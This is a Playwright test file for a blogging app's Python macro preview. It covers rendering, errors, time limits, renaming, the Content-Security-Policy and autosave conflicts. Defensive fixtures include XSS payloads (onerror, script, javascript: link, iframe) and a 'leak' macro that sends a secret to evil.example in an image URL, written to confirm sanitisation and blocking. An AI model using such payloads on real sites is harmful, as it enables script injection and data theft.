import type { FrameLocator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  type AppPage,
  createScript,
  newAppContext,
  newAppPage,
  newScript,
  replaceEditorText,
  startRun,
  useBuiltApp,
  waitFor,
} from './harness';

const suite = useBuiltApp();

const shoutV1 = [
  'def render(context):',
  '    text = context["params"].get("text", "hi")',
  '    return {"html": f"<strong class=\'shout\'>{text.upper()}!</strong>"}',
].join('\n');

const raising = [
  'def render(context):',
  '    print("about to fail for", context["macro"])',
  '    raise ValueError("no luck today")',
].join('\n');

const hostile = [
  'def render(context):',
  '    return (\'<img src="x" onerror="parent.document.title=1" class="evil">\'',
  "            '<script>parent.document.title=2</script>'",
  '            \'<a class="evil-link" href="javascript:parent.document.title=3">click</a>\'',
  '            \'<iframe class="evil-frame" src="https://evil.example/"></iframe>\')',
].join('\n');

const postBody = [
  '# Macro tour',
  '',
  '[[youtube id="dQw4w9WgXcQ" title="Never gonna"]]',
  '',
  '[[vimeo id=76979871]]',
  '',
  'Inline: [[shout text="hello"]] and [[nosuchmacro a=1]].',
  '',
  '[[broken]]',
  '',
  '[[hostile]]',
  '',
  '[[tag_cloud]]',
  '',
  'The end.',
].join('\n');

describe('posts with a live preview', () => {
  let app: AppPage;
  let page: Page;
  let preview: FrameLocator;

  beforeAll(async () => {
    app = await newAppPage(suite.browser, suite.server.url);
    page = app.page;
    await page
      .getByRole('status', { name: 'Python status' })
      .filter({ hasText: 'ready' })
      .waitFor({ timeout: 90_000 });
    await createScript(page, 'macro', 'shout', shoutV1);
    await createScript(page, 'macro', 'broken', raising);
    await createScript(page, 'macro', 'hostile', hostile);

    await page.getByRole('tab', { name: 'Posts' }).click();
    await page.getByRole('button', { name: 'New post' }).click();
    await page.getByLabel('Tags', { exact: true }).fill('python, blogging');
    await page.getByLabel('Tags', { exact: true }).press('Tab');
    await page.getByRole('combobox', { name: /^Status/ }).selectOption('published');
    await replaceEditorText(page, 'Markdown of Untitled post', postBody);
    preview = page.frameLocator('iframe[title="Post preview"]');
    await preview.locator('text=The end.').waitFor();
  });

  afterAll(async () => {
    await app.close();
  });

  test('built-in macros render their players and the tag cloud is drawn', async () => {
    await expect(preview.locator('.macro-youtube iframe').getAttribute('src')).resolves.toBe(
      'https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0',
    );
    await expect(preview.locator('.macro-youtube iframe').getAttribute('title')).resolves.toBe('Never gonna');
    await expect(preview.locator('.macro-vimeo iframe').getAttribute('src')).resolves.toBe(
      'https://player.vimeo.com/video/76979871',
    );
    await preview.locator('.macro-tag-cloud svg text', { hasText: 'python' }).waitFor();
    await expect(preview.locator('.macro-tag-cloud svg text').count()).resolves.toBe(2);
    // A block macro replaces its paragraph: no <p><div>.
    await expect(preview.locator('p > .macro-youtube').count()).resolves.toBe(0);
  });

  test('a user macro renders inline, and an unknown macro stays visible and marked', async () => {
    await expect(preview.locator('p strong.shout').textContent()).resolves.toBe('HELLO!');
    await expect(preview.locator('.pymark-macro-unknown').textContent()).resolves.toBe('[[nosuchmacro a=1]]');
    // Listed among the warnings, marked in the Markdown, and a click on its place puts the cursor there.
    const warning = page
      .getByRole('list', { name: 'Preview warnings' })
      .getByRole('listitem')
      .filter({ hasText: 'Unknown macro [[nosuchmacro]]: no macro script is named nosuchmacro.py' });
    await expect(warning.textContent()).resolves.toMatch(/^\s*Line 7, column 36: /);
    await page.locator('.cm-lintRange-warning').first().waitFor();
    await warning.getByRole('button', { name: 'Line 7, column 36' }).click();
    await page.locator('pymark-posts-view .cm-editor.cm-focused').waitFor();
  });

  test('a raising macro shows an error box while the rest renders', async () => {
    const box = preview.locator('.pymark-macro-error');
    await expect(box.textContent()).resolves.toMatch(/broken\.py, line 3.*ValueError: no luck today/);
    await expect(preview.locator('text=The end.').count()).resolves.toBe(1);
    // Errors, warnings and what macros printed are three lists.
    const errors = await page.getByRole('list', { name: 'Preview errors' }).textContent();
    expect(errors).toMatch(/Line 9, column 1: broken\.py: ValueError: no luck today/);
    const printed = await page.getByRole('list', { name: 'What macros printed' }).textContent();
    expect(printed).toMatch(/Line 9, column 1: broken\.py printed: about to fail for broken/);
    const warnings = await page.getByRole('list', { name: 'Preview warnings' }).textContent();
    expect(warnings).not.toMatch(/broken\.py/);
    // What the macro printed is shown to the author, not in the page, and marks no call: the one
    // error mark in the Markdown is the failed call's.
    await expect(preview.locator('text=about to fail').count()).resolves.toBe(0);
    const errorMarks = await page.locator('pymark-posts-view .cm-lintRange-error').allTextContents();
    expect(errorMarks.join('')).toBe('[[broken]]');
    const warningMarks = await page.locator('pymark-posts-view .cm-lintRange-warning').allTextContents();
    expect(warningMarks.join('')).not.toContain('[[broken]]');
  });

  test('hostile macro HTML is neutralised', async () => {
    await preview.locator('img.evil').waitFor({ state: 'attached' });
    await expect(preview.locator('img.evil').getAttribute('onerror')).resolves.toBeNull();
    await expect(preview.locator('script:not([nonce])').count()).resolves.toBe(0);
    await expect(preview.locator('a.evil-link').getAttribute('href')).resolves.toBeNull();
    await expect(preview.locator('iframe.evil-frame').count()).resolves.toBe(0);
    await expect(page.title()).resolves.toBe('Pymark');
  });

  test('editing the macro script updates the preview', async () => {
    await createMacroEdit(page, 'shout', shoutV1.replace('text.upper()', 'text[::-1]'));
    await page.getByRole('tab', { name: 'Posts' }).click();
    await preview.locator('strong.shout', { hasText: 'olleh!' }).waitFor();
  });

  test('clicking the error box opens the script at the failing line', async () => {
    await preview.locator('.pymark-macro-error').click();
    await page.getByRole('heading', { name: 'broken' }).waitFor();
    await expect(page.locator('.cm-error-line').textContent()).resolves.toBe(
      '    raise ValueError("no luck today")',
    );
    // The machine is offline, so the players and the hostile image fail to load; nothing else may fail.
    expect(app.errors.filter((error) => !error.startsWith('console: Failed to load resource'))).toEqual([]);
  });

  test('a macro that never returns is stopped by the time limit, and Python carries on', async () => {
    await createMacroEdit(
      page,
      'shout',
      ['def render(context):', '    while True:', '        pass'].join('\n'),
    );
    await page.getByRole('tab', { name: 'Posts' }).click();
    const box = preview.locator('.pymark-macro-error', { hasText: 'shout.py' });
    await box.filter({ hasText: 'time limit' }).waitFor({ timeout: 30_000 });
    // The rest of the post still renders, and Python renders the fixed macro.
    await expect(preview.locator('text=The end.').count()).resolves.toBe(1);
    await createMacroEdit(page, 'shout', shoutV1);
    await page.getByRole('tab', { name: 'Posts' }).click();
    await preview.locator('strong.shout', { hasText: 'HELLO!' }).waitFor();
    await expect(
      page.getByRole('status', { name: 'Python status' }).filter({ hasText: 'ready' }).count(),
    ).resolves.toBe(1);
  });

  test('renaming a macro offers to update the posts that call it, and the update keeps them working', async () => {
    await page.getByRole('tab', { name: 'Scripts' }).click();
    await page.getByRole('button', { name: 'Rename shout' }).click();
    const title = page.getByLabel('New title for shout');
    await title.fill('yell');
    await title.press('Enter');
    const offer = page
      .getByRole('alert')
      .filter({ hasText: '1 post calls [[shout]], which is now [[yell]].' });
    await offer.waitFor();
    // In a row of its own above the view: it hides none of the editor or the output.
    const offerBox = (await offer.boundingBox())!;
    expect(offerBox.y + offerBox.height).toBeLessThanOrEqual((await page.locator('main').boundingBox())!.y);
    // The offer goes with the macro it names: gone with it, back when its delete is undone.
    await page.getByRole('button', { name: 'Delete yell' }).click();
    await offer.waitFor({ state: 'detached' });
    await page
      .getByRole('alert')
      .filter({ hasText: 'Deleted “yell”.' })
      .getByRole('button', { name: 'Undo' })
      .click();
    await offer.waitFor();
    await offer.getByRole('button', { name: 'Update it' }).click();
    await offer.waitFor({ state: 'hidden' });
    await page.getByRole('tab', { name: 'Posts' }).click();
    await expect
      .poll(() => page.getByLabel('Markdown of Untitled post').textContent())
      .toContain('Inline: [[yell text="hello"]] and [[nosuchmacro a=1]].');
    await preview.locator('strong.shout', { hasText: 'HELLO!' }).waitFor();
  });

  test('the preview is styled as the site: its theme, the post title and the macros’ CSS', async () => {
    await createScript(
      page,
      'macro',
      'glow',
      'def render(context):\n    return {"html": "<span class=\'glow\'>glowing</span>", "css": ".glow { color: rgb(1, 2, 3) }"}\n',
    );
    await page.getByRole('tab', { name: 'Posts' }).click();
    await page.getByLabel('Markdown of Untitled post').press('ControlOrMeta+End');
    await page.keyboard.insertText('\n\nNow [[glow]].\n');
    await preview.locator('span.glow').waitFor();
    // The macro's CSS reaches the frame inline, the site theme's (Pico's) rules style the post, and
    // the title sits where the site's post page puts it.
    await expect(preview.locator('span.glow').evaluate((span) => getComputedStyle(span).color)).resolves.toBe(
      'rgb(1, 2, 3)',
    );
    await expect(
      preview
        .locator('main.container')
        .evaluate((main) => getComputedStyle(main).getPropertyValue('--pico-font-family').trim()),
    ).resolves.not.toBe('');
    await expect(preview.locator('article.post > header h1').textContent()).resolves.toBe('Untitled post');
    // Still only inline styles: the frame links no stylesheet.
    await expect(preview.locator('link').count()).resolves.toBe(0);
  });
});

describe("the preview frame's policy", () => {
  let app: AppPage;

  afterAll(async () => {
    await app?.close();
  });

  test('blocks requests to other sites and warns about them, naming the macro', async () => {
    app = await newAppPage(suite.browser, suite.server.url);
    const page = app.page;
    // Every request to the other site, and why it failed: the browser must refuse it itself.
    const requested = new Map<string, string | undefined>();
    app.context.on('request', (request) => {
      if (request.url().includes('evil.example')) requested.set(request.url(), undefined);
    });
    app.context.on('requestfailed', (request) => {
      if (request.url().includes('evil.example')) requested.set(request.url(), request.failure()?.errorText);
    });
    await page
      .getByRole('status', { name: 'Python status' })
      .filter({ hasText: 'ready' })
      .waitFor({ timeout: 90_000 });
    // What a hostile macro would do with something it read: put it in an image's address.
    await createScript(
      page,
      'macro',
      'leak',
      'def render(context):\n    return \'<img class="leak" src="https://evil.example/leak.png?secret=42&x=1">\'\n',
    );
    await page.getByRole('tab', { name: 'Posts' }).click();
    await page.getByRole('button', { name: 'New post' }).click();
    await replaceEditorText(
      page,
      'Markdown of Untitled post',
      'Intro.\n\n[[leak]]\n\n![chart](https://evil.example/chart.png)\n',
    );

    const warnings = page.getByRole('list', { name: 'Preview warnings' });
    await expect
      .poll(() => warnings.textContent(), { timeout: 30_000 })
      .toMatch(
        /Line 3, column 1: leak\.py: the preview blocked a request to https:\/\/evil\.example\/leak\.png\?secret=42&x=1 \(img-src\)/,
      );
    await expect
      .poll(() => warnings.textContent())
      .toMatch(
        /Line 1, column 1: The Markdown: the preview blocked a request to https:\/\/evil\.example\/chart\.png/,
      );
    await expect.poll(() => [...requested.values()]).toEqual(['csp', 'csp']);

    // Still warned about after the next render, which keeps the blocked image as it was.
    await page.getByLabel('Markdown of Untitled post').press('End');
    await page.keyboard.insertText(' More.');
    await expect.poll(() => page.getByLabel('Markdown of Untitled post').textContent()).toContain('More.');
    await expect.poll(() => warnings.textContent()).toMatch(/leak\.py: the preview blocked a request/);
  });
});

describe("the app page's Content-Security-Policy", () => {
  let app: AppPage;

  afterAll(async () => {
    await app?.close();
  });

  /** The policy's directives by name, each with its sources. */
  const directives = (policy: string) =>
    new Map(
      policy.split(';').map((directive) => {
        const [name = '', ...sources] = directive.trim().split(/\s+/);
        return [name, sources];
      }),
    );

  test('comes with the page, refuses injected and blob: scripts, and Python, the preview and Stop still work', async () => {
    app = await newAppPage(suite.browser, suite.server.url);
    const page = app.page;
    const response = await page.reload();
    const policy = directives(response?.headers()['content-security-policy'] ?? '');
    expect(policy.get('default-src')).toEqual(["'self'"]);
    expect(policy.get('script-src')).toEqual([
      "'self'",
      "'wasm-unsafe-eval'",
      expect.stringMatching(/^'sha256-/),
      expect.stringMatching(/^'sha256-/),
    ]);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'none'"]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    // Cross-origin isolation stays: Stop writes into a SharedArrayBuffer.
    expect(response?.headers()['cross-origin-embedder-policy']).toBe('require-corp');
    await expect(page.evaluate(() => crossOriginIsolated)).resolves.toBe(true);

    // The app works under it: Python boots, a macro renders in the preview, Stop interrupts.
    await page
      .getByRole('status', { name: 'Python status' })
      .filter({ hasText: 'ready' })
      .waitFor({ timeout: 180_000 });
    await createScript(page, 'macro', 'shout', shoutV1);
    await page.getByRole('tab', { name: 'Posts' }).click();
    await page.getByRole('button', { name: 'New post' }).click();
    await replaceEditorText(page, 'Markdown of Untitled post', 'Say [[shout text="policy"]].');
    const preview = page.frameLocator('iframe[title="Post preview"]');
    await expect.poll(() => preview.locator('strong.shout').textContent()).toBe('POLICY!');
    await page.getByRole('tab', { name: 'Scripts' }).click();
    await newScript(page, 'utility');
    await startRun(page, 'while True:\n    pass\n');
    await waitFor(page.getByRole('status', { name: 'Python status' }), /running/);
    await page.getByRole('button', { name: 'Stop' }).click();
    await waitFor(page.getByRole('note'), /interrupted with KeyboardInterrupt/);
    expect(app.errors.filter((error) => /Content Security Policy|Refused to/i.test(error))).toEqual([]);

    // An inline script injected into the page does not run.
    const injected = await page.evaluate(
      () =>
        new Promise<{ directive: string; ran: boolean }>((resolve) => {
          document.addEventListener(
            'securitypolicyviolation',
            (event) => resolve({ directive: event.effectiveDirective, ran: 'injectedRan' in window }),
            { once: true },
          );
          const script = document.createElement('script');
          script.textContent = 'window.injectedRan = true';
          document.body.append(script);
        }),
    );
    expect(injected).toEqual({ directive: 'script-src-elem', ran: false });

    // In the sandbox frame, neither an inline script nor a blob: script runs, as a classic script or a
    // module; nor does its worker import one, or any of the app's files, not even Pyodide's module
    // (its worker module carries it: Python is ready).
    const sandbox = await page.locator('iframe[title="Python sandbox"]').first().elementHandle();
    const frame = await sandbox?.contentFrame();
    if (!frame) throw new Error('no sandbox frame');
    const inFrame = await frame.evaluate(async () => {
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        refused.push(`${event.effectiveDirective} ${event.blockedURI.split(':')[0]}`),
      );
      const run = (script: HTMLScriptElement) =>
        new Promise<string>((resolve) => {
          script.onload = () => resolve('ran');
          script.onerror = () => resolve('refused');
          document.head.append(script);
        });
      const inline = document.createElement('script');
      inline.textContent = 'window.inlineRan = true';
      document.head.append(inline);
      const blobUrl = URL.createObjectURL(new Blob(['window.blobRan = true'], { type: 'text/javascript' }));
      const classic = document.createElement('script');
      classic.src = blobUrl;
      const classicResult = await run(classic);
      const module = document.createElement('script');
      module.type = 'module';
      module.src = blobUrl;
      const moduleResult = await run(module);
      // Violation events are queued tasks (one per policy: the page's, inherited, and the frame's).
      const kinds = () => [...new Set(refused)].sort();
      while (kinds().length < 2) await new Promise((resolve) => setTimeout(resolve));
      return {
        classicResult,
        moduleResult,
        ran: 'inlineRan' in window || 'blobRan' in window,
        refused: kinds(),
      };
    });
    expect(inFrame).toEqual({
      classicResult: 'refused',
      moduleResult: 'refused',
      ran: false,
      refused: ['script-src-elem blob', 'script-src-elem inline'],
    });
    const sandboxWorkers = page.workers().filter((worker) => worker.url().startsWith('blob:'));
    expect(sandboxWorkers.length).toBeGreaterThan(0);
    for (const worker of sandboxWorkers) {
      // A string: the test runner would rewrite an import() written here.
      const imports = await worker.evaluate<string[]>(`(async () => {
        const attempt = (url) => import(url).then(() => 'ran', (error) => String(error));
        const blobUrl = URL.createObjectURL(new Blob(['export {};'], { type: 'text/javascript' }));
        return Promise.all(
          [blobUrl, '/sw.js', '/pyodide/pyodide.asm.mjs'].map((url) => attempt(new URL(url, self.origin).href)),
        );
      })()`);
      expect(imports).toEqual(
        Array(3).fill(expect.stringMatching(/Failed to fetch dynamically imported module/)),
      );
    }
  }, 300_000);
});

describe('one post typed in two tabs within the autosave delay', () => {
  let app: AppPage;

  afterAll(async () => {
    await app?.close();
  });

  test('ends in a conflict copy and a notice, with neither tab’s text lost', async () => {
    // The page's clock is Playwright's, so both tabs can type while their autosave timers wait.
    const context = await newAppContext(suite.browser, suite.server.url);
    await context.clock.install();
    const first = await context.newPage();
    app = { context, page: first, errors: [], close: () => context.close() };
    first.on('pageerror', (error) => app.errors.push(`pageerror: ${error.message}`));
    await first.goto(suite.server.url);
    await first.getByRole('tab', { name: 'Posts' }).click();
    await first.getByRole('button', { name: 'New post' }).click();
    await first.getByRole('status', { name: 'Save state' }).filter({ hasText: 'Saved' }).waitFor();
    // A second tab of the same app: one context, so one origin's storage shared by both.
    const second = await context.newPage();
    second.on('pageerror', (error) => app.errors.push(`pageerror: ${error.message}`));
    await second.goto(suite.server.url);
    await second.getByRole('tab', { name: 'Posts' }).click();
    await second
      .getByRole('list', { name: 'Posts' })
      .getByRole('button', { name: /^Untitled post/ })
      .click();
    await second.getByLabel('Markdown of Untitled post').waitFor();

    // Typed in both tabs within the autosave delay (800 ms): time stands still while they type,
    // then runs past the delay, so each tab's save starts before it has heard of the other's.
    await context.clock.pauseAt((await first.evaluate(() => Date.now())) + 10_000);
    const texts = ['# Typed in the first tab\n', '# Typed in the second tab\n'];
    await replaceEditorText(first, 'Markdown of Untitled post', texts[0]!);
    await replaceEditorText(second, 'Markdown of Untitled post', texts[1]!);
    await expect(first.getByRole('status', { name: 'Save state' }).textContent()).resolves.toBe(
      'Unsaved changes',
    );
    await expect(second.getByRole('status', { name: 'Save state' }).textContent()).resolves.toBe(
      'Unsaved changes',
    );
    await context.clock.runFor(1_000);
    await context.clock.resume();

    const notice = (page: Page) => page.getByRole('alert').filter({ hasText: 'Edited in two places' });
    await expect
      .poll(async () => (await notice(first).count()) + (await notice(second).count()), { timeout: 60_000 })
      .toBe(1);
    const loser = (await notice(first).count()) === 1 ? first : second;
    await expect(notice(loser).textContent()).resolves.toContain('“Untitled post (conflicting edit)”');
    const editorText = () => loser.locator('.cm-content').textContent();
    const kept = await editorText();
    await notice(loser).getByRole('button', { name: 'Open your edits' }).click();
    await expect
      .poll(() => loser.locator('.toolbar h2').textContent())
      .toBe('Untitled post (conflicting edit)');
    const copied = await editorText();
    expect([kept, copied].sort()).toEqual(texts.map((text) => text.trimEnd()).sort());
    expect(app.errors).toEqual([]);
  });
});

async function createMacroEdit(page: Page, slug: string, code: string): Promise<void> {
  await page.getByRole('tab', { name: 'Scripts' }).click();
  await page
    .getByRole('list', { name: 'Scripts' })
    .getByRole('button', { name: new RegExp(`^${slug}`) })
    .click();
  await replaceEditorText(page, `Code of ${slug}`, code);
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await page.getByRole('button', { name: 'Save', exact: true }).and(page.locator(':disabled')).waitFor();
}
